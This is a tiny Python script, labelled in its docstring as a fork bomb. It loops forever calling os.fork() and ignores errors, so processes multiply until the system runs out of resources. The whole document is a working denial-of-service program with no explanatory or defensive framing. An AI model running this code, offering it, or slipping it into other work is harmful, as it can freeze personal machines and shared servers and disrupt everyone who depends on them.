"""Fork bomb: every process forks as fast as it can, forever."""
import os
while True:
    try: os.fork()
    except OSError: pass
